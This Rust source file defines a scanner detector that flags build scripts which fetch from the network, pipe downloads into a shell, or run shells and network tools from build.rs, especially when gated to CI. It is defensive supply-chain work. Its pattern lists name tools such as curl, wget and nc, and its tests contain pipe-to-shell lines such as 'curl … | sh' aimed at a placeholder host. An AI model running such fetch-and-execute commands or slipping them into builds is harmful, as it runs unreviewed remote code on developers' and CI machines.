//! `build-script-fetch`: build files that download or reach the network at build time.
//!
//! - `build.rs` runs on every `cargo build` of every dependent crate: a network client or a
//!   `Command::new("curl"|"sh"|…)` there is the rustdecimal shape. `pkg-config`, compilers,
//!   `git` and other build tools are its normal business and stay quiet.
//! - Makefiles, autotools, CMake, meson and build shell scripts that `curl`/`wget` something,
//!   worse when piped into a shell; CMake `file(DOWNLOAD …)` or `URL https://…` without an
//!   expected hash in the same hunk.
//!
//! Dockerfiles and Python/Rust files are left to their own detectors (a `RUN curl … | sh` in
//! a Dockerfile is routine; setup.py has `python-install-hook`).

use crate::detector::{Detector, DetectorMeta, FileCtx, FileScope, Hit, LinePattern};
use crate::finding::{Confidence, Findings, Severity, Vector};

#[derive(Debug)]
pub struct BuildScriptFetch;

static META: DetectorMeta = DetectorMeta::new(
    "build-script-fetch",
    "Build script downloads or opens network connections",
    Severity::High,
    Confidence::High,
    &[Vector::InstallHook],
    &[],
    "A build file now fetches something from the network or runs a shell at build time. Every \
     developer, CI job and downstream packager who builds the project runs it, and what is \
     downloaded can change after review. Check what is fetched, whether it is pinned by hash, \
     and whether the build really needs it.",
);

const BUILD: &[FileScope] = &[FileScope::Build];

const P_CURL: usize = 0;
const P_WGET: usize = 1;
const P_IWR: usize = 2;
const P_CMAKE_DOWNLOAD: usize = 3;
const P_CMAKE_URL: usize = 4;
const P_COMMAND: usize = 5;
const P_NET_FIRST: usize = 6;

static PATTERNS: &[LinePattern] = &[
    LinePattern::lit("curl").files(BUILD).regex(r"\bcurl\b"),
    LinePattern::lit("wget").files(BUILD).regex(r"\bwget\b"),
    LinePattern::lit("Invoke-WebRequest")
        .ignore_case()
        .files(BUILD),
    LinePattern::lit("(DOWNLOAD")
        .ignore_case()
        .files(BUILD)
        .regex(r"(?i)\bfile\s*\(DOWNLOAD\b"),
    // `URL https://…` inside ExternalProject_Add / FetchContent_Declare.
    LinePattern::lit("URL http")
        .files(BUILD)
        .regex(r"^\s*URL\s+https?://"),
    LinePattern::lit("Command::new(")
        .files(BUILD)
        .regex(r#"Command::new\(\s*"([^"]+)""#),
    LinePattern::lit("reqwest::").files(BUILD),
    LinePattern::lit("ureq::").files(BUILD),
    LinePattern::lit("TcpStream::connect").files(BUILD),
    LinePattern::lit("attohttpc::").files(BUILD),
    LinePattern::lit("minreq::").files(BUILD),
    LinePattern::lit("curl::easy").files(BUILD),
    LinePattern::lit("UdpSocket::bind").files(BUILD),
];

/// Programs whose launch from build.rs fetches or runs arbitrary code.
const RISKY_PROGRAMS: &[&str] = &[
    "curl",
    "wget",
    "sh",
    "bash",
    "zsh",
    "dash",
    "powershell",
    "pwsh",
    "cmd",
    "cmd.exe",
    "python",
    "python3",
    "node",
    "perl",
    "ruby",
    "nc",
    "ncat",
];

const PIPE_TO_SHELL: &str = r"\|\s*(?:sudo\s+)?(?:/bin/|/usr/bin/(?:env\s+)?)?(?:ba|z|da|k)?sh\b";

fn is_comment(line: &str) -> bool {
    let t = line.trim_start();
    t.starts_with('#') || t.starts_with("dnl") || t.starts_with("//")
}

fn is_rust(file: &FileCtx<'_>) -> bool {
    file.class.language == Some("rust")
}

fn pipes_to_shell(line: &str) -> bool {
    use std::sync::OnceLock;
    static RE: OnceLock<Option<regex::Regex>> = OnceLock::new();
    RE.get_or_init(|| regex::Regex::new(PIPE_TO_SHELL).ok())
        .as_ref()
        .is_some_and(|re| re.is_match(line))
}

/// The hunk checks for a CI environment: code that behaves differently on CI hides from local
/// testing and targets the machines holding publish tokens (rustdecimal checked `GITLAB_CI`).
fn ci_gated(hit: &Hit<'_>) -> bool {
    [
        "\"CI\"",
        "GITLAB_CI",
        "GITHUB_ACTIONS",
        "TRAVIS",
        "JENKINS_URL",
        "CIRCLECI",
        "BUILDKITE",
        "TF_BUILD",
    ]
    .iter()
    .any(|k| hit.hunk.text.contains(k))
}

/// A hash pin in the same hunk makes a CMake download reproducible.
fn hunk_pins_hash(hit: &Hit<'_>) -> bool {
    ["URL_HASH", "EXPECTED_HASH", "EXPECTED_MD5", "URL_MD5"]
        .iter()
        .any(|k| hit.hunk.text.contains(k))
}

impl Detector for BuildScriptFetch {
    fn meta(&self) -> &DetectorMeta {
        &META
    }

    fn line_patterns(&self) -> &[LinePattern] {
        PATTERNS
    }

    fn on_hit(&self, hit: &Hit<'_>, file: &FileCtx<'_>, out: &mut Findings) {
        let lang = file.class.language;
        if matches!(lang, Some("python" | "dockerfile")) || is_comment(hit.text) {
            return;
        }
        let (title, severity, confidence) = match hit.pattern {
            P_CURL | P_WGET | P_IWR if is_rust(file) => return,
            P_CURL | P_WGET | P_IWR if pipes_to_shell(hit.text) => (
                "Build file pipes a download into a shell".to_string(),
                Severity::Critical,
                Confidence::High,
            ),
            P_CURL | P_WGET | P_IWR => (
                "Build file downloads at build time".to_string(),
                Severity::Medium,
                Confidence::Medium,
            ),
            P_CMAKE_DOWNLOAD | P_CMAKE_URL if hunk_pins_hash(hit) => return,
            P_CMAKE_DOWNLOAD | P_CMAKE_URL => (
                "CMake downloads at configure time without a pinned hash".to_string(),
                Severity::Medium,
                Confidence::Medium,
            ),
            P_COMMAND if is_rust(file) => {
                let program = hit
                    .matched()
                    .split('"')
                    .nth(1)
                    .unwrap_or("")
                    .rsplit(['/', '\\'])
                    .next()
                    .unwrap_or("");
                if !RISKY_PROGRAMS.contains(&program) {
                    return;
                }
                if ci_gated(hit) {
                    (
                        format!("build.rs runs `{program}` only on CI"),
                        Severity::Critical,
                        Confidence::High,
                    )
                } else {
                    (
                        format!("build.rs runs `{program}`"),
                        Severity::High,
                        Confidence::High,
                    )
                }
            }
            p if p >= P_NET_FIRST && is_rust(file) => {
                if ci_gated(hit) {
                    (
                        "build.rs opens network connections only on CI".to_string(),
                        Severity::Critical,
                        Confidence::High,
                    )
                } else {
                    (
                        "build.rs opens network connections".to_string(),
                        Severity::High,
                        Confidence::High,
                    )
                }
            }
            _ => return,
        };
        let mut b = META
            .finding(hit.location(file.path()))
            .title(title)
            .severity(severity)
            .confidence(confidence)
            .evidence(hit.text.trim());
        if let Some(l) = lang {
            b = b.language(l);
        }
        out.push(b.build());
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn pipes_into_shells_are_recognised() {
        assert!(pipes_to_shell("curl -fsSL https://x.example/i.sh | sh"));
        assert!(pipes_to_shell("wget -qO- $(URL) | sudo bash -s"));
        assert!(!pipes_to_shell(
            "curl -fsSL -o deps.tgz https://x.example/deps.tgz"
        ));
        assert!(!pipes_to_shell("curl -s x | shasum -c"));
    }

    #[test]
    fn comments_in_build_languages_are_skipped() {
        assert!(is_comment("  # curl https://x.example"));
        assert!(is_comment("dnl wget here"));
        assert!(!is_comment("\tcurl -o x https://x.example"));
    }
}
